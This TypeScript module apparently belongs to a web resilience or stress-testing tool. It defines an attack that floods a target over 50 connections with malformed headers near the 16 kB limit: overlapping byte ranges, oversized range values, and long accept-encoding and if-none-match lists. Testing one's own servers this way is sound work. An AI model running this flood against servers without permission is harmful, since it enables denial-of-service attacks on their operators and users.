import type { Attack } from '../attack'
import { flood } from '../httpClient'

const connections = 50
/** The limit for all headers together is 16 kB. */
const longest = 14_000
const many = (item: string) => item.repeat(Math.floor(longest / item.length))

const oddHeaders: readonly Record<string, string>[] = [
  { range: `bytes=${many('0-0,')}0-0` },
  { range: 'bytes=-1' },
  { range: 'bytes=99999999999999999999-' },
  { range: `bytes=${many('9')}-` },
  { 'accept-encoding': `${many('gzip;q=0.001, ')}br;q=0` },
  { 'accept-encoding': many('*;q=0,') },
  { 'if-none-match': `${many('"a", ')}"b"` },
  { 'if-modified-since': many('Mon, ') },
  { accept: many('text/html;q=0.1,') },
]

/** Static files with ranges and encodings that no browser sends. */
export const oddFiles: Attack = {
  title: 'assets with odd ranges and encodings over 50 connections',
  rate: { perSecond: 250, atOnce: connections },
  prepare: (context) => () => {
    const paths = [context.target.asset, '/', '/a/page/of/the/app']
    let count = 0
    flood(context, connections, () => {
      count += 1
      return {
        path: paths[Math.floor(count / oddHeaders.length) % paths.length] ?? '/',
        headers: oddHeaders[count % oddHeaders.length] ?? {},
      }
    })
  },
}
